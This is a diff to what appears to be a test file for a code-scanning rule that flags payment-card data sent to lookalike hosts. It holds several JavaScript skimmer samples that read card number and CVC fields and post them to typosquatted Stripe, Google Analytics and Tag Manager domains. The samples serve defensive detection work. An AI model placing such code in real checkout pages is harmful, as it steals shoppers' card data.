@@ -4,19 +4,19 @@
 // A typo of Stripe.
 var card = { number: document.getElementById('cardnumber').value, cvc: document.getElementById('cvc').value };
 // ruleid: card-data-to-lookalike-host
-fetch('https://api.slripe.com/v1/tokens', { method: 'POST', body: new URLSearchParams(card) });
+fetch('https://api.strlpe.com/v1/tokens', { method: 'POST', body: new URLSearchParams(card) });
 
 // ---
 // An abbreviation of Google Analytics, image beacon with base64 JSON.
 var d = JSON.stringify(jQuery('#checkout').serializeArray());
 // ruleid: card-data-to-lookalike-host
-new Image().src = 'https://www.g-analytics.com/collect?v=1&cd=' + btoa(d);
+new Image().src = 'https://www.google-analytlcs.com/collect?v=1&cd=' + btoa(d);
 
 // ---
 // Google Tag Manager's name under another suffix, jQuery.ajax POST.
 function send(values) {
   // ruleid: card-data-to-lookalike-host
-  jQuery.ajax({ url: 'https://googletagmanager.eu/gtm/collect', type: 'POST', data: { v: values } });
+  jQuery.ajax({ url: 'https://googletagmanager.top/gtm/collect', type: 'POST', data: { v: values } });
 }
 send(document.querySelector('#cc_cvv').value);
 
@@ -43,3 +43,8 @@ new Image().src = 'https://www.google-analytics.com/collect?v=1&t=pageview&dp=' 
 var num = document.querySelector('[autocomplete="cc-number"]').value;
 // ok: card-data-to-lookalike-host
 fetch('/stripe/confirm-payment', { method: 'POST', body: JSON.stringify({ number: num }) });
+// ---
+// ... but not when an IOC rule documents the host: it is known-bad (card-data-to-untrusted-host).
+var pan = document.getElementById('cardnumber').value;
+// ok: card-data-to-lookalike-host
+fetch('https://api.slripe.com/v1/tokens', { method: 'POST', body: pan });
